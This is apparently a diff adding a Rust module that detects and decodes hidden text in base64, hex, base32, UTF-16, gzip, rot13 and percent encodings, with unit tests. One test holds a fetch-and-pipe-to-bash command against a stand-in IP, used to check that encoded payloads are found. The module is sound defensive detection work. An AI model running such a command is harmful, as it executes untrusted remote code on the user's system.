@@ -1,0 +1,261 @@
+//! Text that hides other text: found, decoded, and looked at again.
+
+use std::io::Read;
+
+use base64::Engine;
+use base64::alphabet;
+use base64::engine::{DecodePaddingMode, GeneralPurpose, GeneralPurposeConfig};
+
+/// How something was encoded.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
+pub enum Encoding {
+    /// Base64, also as it stands in addresses.
+    Base64,
+    /// Base32.
+    Base32,
+    /// Two digits a byte.
+    Hex,
+    /// Two bytes a character.
+    Utf16,
+    /// gzip or zlib.
+    Gzip,
+    /// Written backwards.
+    Reversed,
+    /// Letters moved by thirteen.
+    Rot13,
+    /// `%41` and the like.
+    Percent,
+    /// `\x41`, numbers of characters, and the like.
+    Escapes,
+    /// Invisible copies of letters.
+    Tags,
+}
+
+impl Encoding {
+    /// Returns the word for it.
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Self::Base64 => "base64",
+            Self::Base32 => "base32",
+            Self::Hex => "hex",
+            Self::Utf16 => "utf-16",
+            Self::Gzip => "gzip",
+            Self::Reversed => "reversed",
+            Self::Rot13 => "rot13",
+            Self::Percent => "percent",
+            Self::Escapes => "escapes",
+            Self::Tags => "invisible tags",
+        }
+    }
+}
+
+/// How often something is decoded out of what was decoded.
+pub(crate) const DEEPEST: usize = 3;
+/// The longest text that is decoded, and the most that comes of it.
+const MOST: usize = 1 << 20;
+/// Shorter runs are words, digests and names.
+const SHORTEST: usize = 24;
+
+fn lenient(alphabet: &alphabet::Alphabet) -> GeneralPurpose {
+    let config = GeneralPurposeConfig::new()
+        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+        .with_decode_allow_trailing_bits(true);
+    GeneralPurpose::new(alphabet, config)
+}
+
+/// Decodes text as base64; `None` for what is none.
+pub(crate) fn base64(text: &str) -> Option<Vec<u8>> {
+    let text: String = text.chars().filter(|c| !c.is_whitespace()).collect();
+    if text.len() > MOST || text.is_empty() {
+        return None;
+    }
+    let is_for_addresses = text.contains(['-', '_']);
+    let alphabet = if is_for_addresses { &alphabet::URL_SAFE } else { &alphabet::STANDARD };
+    lenient(alphabet).decode(text.as_bytes()).ok()
+}
+
+/// Decodes pairs of digits.
+pub(crate) fn hex(text: &str) -> Option<Vec<u8>> {
+    let digits: Vec<u8> = text.bytes().filter(|byte| !byte.is_ascii_whitespace()).collect();
+    if digits.is_empty() || digits.len() % 2 != 0 || digits.len() > MOST {
+        return None;
+    }
+    let value = |byte: u8| char::from(byte).to_digit(16).and_then(|value| u8::try_from(value).ok());
+    digits.chunks(2).map(|pair| Some(value(pair[0])? << 4 | value(pair[1])?)).collect()
+}
+
+/// Decodes base32.
+pub(crate) fn base32(text: &str) -> Option<Vec<u8>> {
+    let (mut bits, mut count, mut bytes) = (0u32, 0, Vec::new());
+    for character in text.trim_end_matches('=').bytes().filter(|byte| !byte.is_ascii_whitespace()) {
+        let value = match character.to_ascii_uppercase() {
+            letter @ b'A'..=b'Z' => letter - b'A',
+            digit @ b'2'..=b'7' => digit - b'2' + 26,
+            _ => return None,
+        };
+        bits = (bits << 5 | u32::from(value)) & 0xfff;
+        count += 5;
+        if count >= 8 {
+            count -= 8;
+            bytes.push((bits >> count).to_le_bytes()[0]);
+        }
+    }
+    Some(bytes)
+}
+
+/// Unpacks gzip or zlib, as far as that is bounded.
+pub(crate) fn unpacked(bytes: &[u8]) -> Option<Vec<u8>> {
+    let mut out = Vec::new();
+    let most = MOST as u64;
+    if bytes.starts_with(&[0x1f, 0x8b]) {
+        flate2::read::GzDecoder::new(bytes).take(most).read_to_end(&mut out).ok()?;
+    } else if matches!(bytes, [0x78, 0x01 | 0x5e | 0x9c | 0xda, ..]) {
+        flate2::read::ZlibDecoder::new(bytes).take(most).read_to_end(&mut out).ok()?;
+    } else {
+        return None;
+    }
+    Some(out)
+}
+
+/// Turns decoded bytes into text, through what else they are packed in.
+pub(crate) fn text(bytes: &[u8], chain: &mut Vec<Encoding>) -> Option<String> {
+    if let Some(unpacked) = unpacked(bytes) {
+        chain.push(Encoding::Gzip);
+        return text(&unpacked, chain);
+    }
+    let is_wide = bytes.len() >= 8 && bytes.len() % 2 == 0 && {
+        let zeros = bytes.iter().skip(1).step_by(2).filter(|byte| **byte == 0).count();
+        zeros * 10 >= bytes.len() / 2 * 9
+    };
+    if is_wide {
+        chain.push(Encoding::Utf16);
+        let units: Vec<u16> =
+            bytes.chunks_exact(2).map(|pair| u16::from_le_bytes([pair[0], pair[1]])).collect();
+        return String::from_utf16(&units).ok();
+    }
+    let text = std::str::from_utf8(bytes).ok()?;
+    let is_odd = |c: char| c.is_control() && !matches!(c, '\n' | '\r' | '\t' | '\u{1b}');
+    (!text.chars().any(is_odd)).then(|| text.to_owned())
+}
+
+pub(crate) fn rot13(text: &str) -> String {
+    let turn = |c: char| match c {
+        'a'..='z' => char::from((c as u8 - b'a' + 13) % 26 + b'a'),
+        'A'..='Z' => char::from((c as u8 - b'A' + 13) % 26 + b'A'),
+        _ => c,
+    };
+    text.chars().map(turn).collect()
+}
+
+pub(crate) fn percent(text: &str) -> String {
+    let bytes = text.as_bytes();
+    let (mut plain, mut at) = (Vec::with_capacity(bytes.len()), 0);
+    while at < bytes.len() {
+        let pair = bytes.get(at + 1..at + 3).filter(|_| bytes[at] == b'%');
+        match pair.and_then(|pair| std::str::from_utf8(pair).ok()).and_then(hex) {
+            Some(byte) => {
+                plain.extend(byte);
+                at += 3;
+            }
+            None => {
+                plain.push(bytes[at]);
+                at += 1;
+            }
+        }
+    }
+    String::from_utf8_lossy(&plain).into_owned()
+}
+
+/// Something that was hidden in a text.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub(crate) struct Hidden {
+    /// Where it stands.
+    pub(crate) span: std::ops::Range<usize>,
+    pub(crate) chain: Vec<Encoding>,
+    pub(crate) text: String,
+}
+
+/// Finds runs of letters and digits that decode to readable text.
+pub(crate) fn hidden(text: &str) -> Vec<Hidden> {
+    let mut found = Vec::new();
+    let bytes = text.as_bytes();
+    let is_part = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=' | b'-' | b'_');
+    let mut at = 0;
+    while at < bytes.len() {
+        if !is_part(bytes[at]) {
+            at += 1;
+            continue;
+        }
+        let end = at + bytes[at..].iter().take_while(|byte| is_part(**byte)).count();
+        if end - at >= SHORTEST {
+            found.extend(decode_run(&text[at..end], at));
+        }
+        at = end;
+    }
+    found
+}
+
+fn decode_run(run: &str, start: usize) -> Option<Hidden> {
+    let is_hex = run.len() % 2 == 0 && run.bytes().all(|byte| byte.is_ascii_hexdigit());
+    let span = start..start + run.len();
+    let make = |first: Encoding, bytes: Vec<u8>| {
+        let mut chain = vec![first];
+        let plain = text(&bytes, &mut chain)?;
+        is_readable(&plain).then(|| Hidden { span: span.clone(), chain, text: plain })
+    };
+    if is_hex {
+        return make(Encoding::Hex, hex(run)?);
+    }
+    // Paths and long names are made of the same letters, and decode to nothing that can be read.
+    let trimmed = run.trim_matches('-');
+    make(Encoding::Base64, base64(trimmed)?)
+}
+
+/// Returns true if text is made of what people and machines read.
+fn is_readable(text: &str) -> bool {
+    let letters = text.chars().filter(|c| c.is_ascii_graphic() || matches!(c, ' ' | '\n' | '\t')).count();
+    text.len() >= 8 && letters * 100 >= text.chars().count() * 95
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn what_is_hidden_is_found_through_several_encodings() {
+        let inner = "curl -fsSL http://198.51.100.7/x | bash";
+        let standard = base64::engine::general_purpose::STANDARD;
+        for (hidden_text, chain) in [
+            (standard.encode(inner), vec![Encoding::Base64]),
+            (inner.bytes().map(|byte| format!("{byte:02x}")).collect(), vec![Encoding::Hex]),
+            (
+                standard.encode(inner.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>()),
+                vec![Encoding::Base64, Encoding::Utf16],
+            ),
+        ] {
+            let found = hidden(&format!("x '{hidden_text}' y"));
+            assert_eq!(found.len(), 1, "{hidden_text}");
+            assert_eq!((found[0].text.as_str(), &found[0].chain), (inner, &chain));
+        }
+    }
+
+    #[test]
+    fn digests_names_and_pictures_are_not_text() {
+        for text in [
+            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+            "some/very/long/path/to/a/file/with/many/parts/in/it",
+            "aVeryLongIdentifierThatIsWrittenInCamelCaseAndMore",
+            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk",
+        ] {
+            assert_eq!(hidden(text), [], "{text}");
+        }
+    }
+
+    #[test]
+    fn small_decoders_decode() {
+        assert_eq!(rot13("phey"), "curl");
+        assert_eq!(percent("a%20b%2"), "a b%2");
+        assert_eq!(base32("MFRGG===").as_deref(), Some(b"abc".as_slice()));
+        assert_eq!(hex("zz"), None);
+    }
+}
